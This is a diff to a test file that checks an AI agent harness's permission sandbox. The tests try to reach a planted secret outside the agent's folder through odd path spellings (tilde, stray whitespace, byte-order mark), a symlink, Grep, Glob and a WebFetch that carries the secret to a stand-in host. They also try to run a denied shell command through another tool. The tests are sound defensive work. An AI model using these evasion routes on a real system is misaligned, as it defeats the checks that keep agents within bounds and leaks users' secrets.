@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 from pathlib import Path
 from typing import Any
 
@@ -23,18 +24,23 @@ def began(lab: Lab, calls: list[list[Any]], *options: str, agent: str = "explore
     return lab.spawn("calls", *options, agent=agent)
 
 
-def outside(lab: Lab) -> dict[str, list[Any]]:
-    """Return the ways to what lies outside of the agent's folder, and by a link in it."""
+def outside(lab: Lab) -> dict[str, list[list[Any]]]:
+    """Return the ways to what lies outside of the agent's folder, and by a link in it, in each spelling."""
     (lab.folder / "secret").mkdir()
     file = lab.folder / "secret" / "key"
     file.write_text(SECRET, encoding="utf-8")
     (lab.work / "link").symlink_to(file.parent)
+    home = f"~/{os.path.relpath(file.parent, os.environ['HOME'])}"
+    spellings = [str(file.parent), home, f" {file.parent}\n", f"\ufeff{home} "]
     return {
-        "read": ["Read", {"file_path": str(file)}],
-        "by a link": ["Read", {"file_path": str(lab.work / "link" / "key")}],
-        "search": ["Grep", {"pattern": "only", "path": str(file.parent), "output_mode": "content"}],
-        "list": ["Glob", {"pattern": f"{file.parent}/*"}],
-        "fetch": ["WebFetch", {"url": f"{lab.standin.url}/{SECRET}", "prompt": "What is there?"}],
+        "read": [["Read", {"file_path": f"{place}/key"}] for place in (str(file.parent), home, f" {file.parent}")],
+        "by a link": [["Read", {"file_path": str(lab.work / "link" / "key")}]],
+        "search": [["Grep", {"pattern": "only", "path": place, "output_mode": "content"}] for place in spellings],
+        "list": [
+            ["Glob", {"pattern": f"{file.parent}/*"}],
+            *(["Glob", {"pattern": "*", "path": place}] for place in spellings),
+        ],
+        "fetch": [["WebFetch", {"url": f"{lab.standin.url}/{SECRET}", "prompt": "What is there?"}]],
     }
 
 
@@ -42,18 +48,21 @@ def outside(lab: Lab) -> dict[str, list[Any]]:
 @pytest.mark.parametrize("way", ["read", "by a link", "search", "list", "fetch"])
 def test_outside(lab: Lab, way: str) -> None:
     """A read-only agent gets nothing from outside its folder under deny, though the person allows that: {way}."""
-    agent = began(lab, [outside(lab)[way]], "--permissions", "deny")
-    lab.completed(agent)
-    (result,) = lab.answered("calls").results
-    assert "denies" in result or "denied" in result or "efused" in result, result
-    assert SECRET not in result
+    calls = outside(lab)[way]
+    lab.completed(began(lab, calls, "--permissions", "deny"))
+    results = lab.answered("calls").results
+    assert len(results) == len(calls)
+    for result in results:
+        assert "denies" in result or "denied" in result or "efused" in result, result
+        assert SECRET not in result
+        assert "secret/key" not in result
     assert not [stray for stray in lab.standin.strays if SECRET in stray]
 
 
 @OF_CLAUDE
 def test_outside_asked(lab: Lab) -> None:
     """A read-only agent that wants to read outside its folder asks the person, who may allow it."""
-    agent = began(lab, [outside(lab)["read"]])
+    agent = began(lab, outside(lab)["read"][:1])
     question = lab.question(agent)
     assert "secret/key" in json.dumps(question["arguments"])
     lab.respond(agent, "allow")
@@ -72,6 +81,36 @@ def test_inside(lab: Lab, policy: str) -> None:
     assert "for everybody" in results
     assert "Found 1 file" in results
     assert not lab.task.events("interaction.requested")
+
+
+@OF_CLAUDE
+@pytest.mark.parametrize("agent", ["explore", "general"])
+def test_rules_and_other_ways(lab: Lab, agent: str) -> None:
+    """What a rule denies comes out by no search or spelling, and no other tool runs a denied command: {agent}."""
+    for name, text in (("secrets", SECRET), ("open", "only for everybody")):
+        Path(name).mkdir()
+        Path(name, "key").write_text(text, encoding="utf-8")
+    search = {"pattern": "only", "output_mode": "content"}
+    command = {"description": "d", "timeout_ms": 1000, "persistent": False, "command": f"touch {lab.folder}/made"}
+    ways: dict[str, list[list[Any]]] = {
+        "explore": [
+            ["Grep", search], ["Grep", {**search, "path": "secrets"}], ["Glob", {"pattern": "**"}],
+            ["Glob", {"pattern": "*", "path": " secrets"}], ["Grep", {**search, "path": "open"}],
+        ],
+        "general": [
+            ["Read", {"file_path": f"{lab.work}/secrets/key "}], ["Monitor", command],
+            ["Read", {"file_path": f"{lab.work}/open/key"}],
+        ],
+    }  # fmt: skip
+    rules = [{"pattern": "secrets/*", "answer": "deny"}, {"tool": "Bash", "pattern": "touch *", "answer": "deny"}]
+    policy = json.dumps([*rules, {"tool": "*", "answer": "allow"}])
+    lab.completed(began(lab, ways[agent], "--permissions", policy, agent=agent))
+    *denied, free = lab.answered("calls").results
+    assert len(denied) == len(ways[agent]) - 1
+    for result in denied:
+        assert "denies" in result or "denied" in result or "efused" in result, result
+    assert "only for everybody" in free
+    assert not (lab.folder / "made").exists()
 
 
 @pytest.mark.parametrize("program", ["claude"])
